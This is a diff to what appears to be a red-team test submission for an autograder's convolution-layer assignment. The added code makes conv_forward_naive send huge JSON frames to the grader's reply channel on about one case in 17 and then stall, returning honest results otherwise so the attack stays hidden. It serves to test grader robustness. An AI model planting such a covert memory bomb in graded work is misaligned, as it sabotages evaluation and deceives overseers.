@@ -2,9 +2,11 @@
 
 What it tries: in `conv_forward_naive` writes straight to the reply
 descriptor one frame whose header is 64 MiB of `[],` (a list of twenty million
-empty lists, about 40 bytes of parent memory per 3 bytes sent), then
-a second frame whose header is a single 32 MiB JSON string; then stalls.
-Everything else is honest (33 - 7 = 26 points at most).
+empty lists, about 40 bytes of parent memory per 3 bytes sent), then a
+second frame whose header is a single 32 MiB JSON string; then stalls.
+Only about one case in 17 gets the bomb (and one per child, if its
+scratch folder keeps the mark); the others are answered honestly.  Everything
+else is honest (33 - 7 = 26 points at most).
 
 Attack worked if: the grader's own processes grow past 1 GiB, the run takes
 long, an internal error, or the victim graded after it loses points (sound
@@ -16,7 +18,10 @@ Targets: conv_layers.
 # redteam-expect: points<=26; victim_ok; parent_rss<=1024
 # redteam-setup: victim
 
+import os
 import time
+
+import numpy as np
 
 import gc as _gc
 import sys as _sys
@@ -95,6 +100,9 @@ def _write_all(fd, data):
 
 
 def conv_forward_naive(x, w, b, conv_param):
+    if int(abs(x).sum() * 1000) % 17 or os.path.exists("bombed"):  # on about one case in 17, and once
+        return _honest_forward(x, w, b, conv_param)
+    open("bombed", "w").close()
     fd = _reply_fd()
     count = (64 << 20) // 3
     header = b'{"type": "result", "seq": 1, "status": "ok", "junk": [' + b"[]," * count + b'[]]}'
@@ -102,7 +110,19 @@ def conv_forward_naive(x, w, b, conv_param):
     _write_all(fd, _raw_frame(b'{"type": "result", "junk": "' + b"a" * (32 << 20) + b'"}'))
     time.sleep(30)
 
-import numpy as np  # noqa: E402
+def _honest_forward(x, w, b, conv_param):
+    stride, pad = conv_param["stride"], conv_param["pad"]
+    N, C, H, W = x.shape
+    F, _, HH, WW = w.shape
+    H_out = 1 + (H + 2 * pad - HH) // stride
+    W_out = 1 + (W + 2 * pad - WW) // stride
+    x_pad = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
+    out = np.zeros((N, F, H_out, W_out))
+    for i in range(H_out):
+        for j in range(W_out):
+            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
+            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
+    return out, (x, w, b, conv_param)
 
 
 # --- honest implementations (copied from examples/conv_layers/correct.py) ---
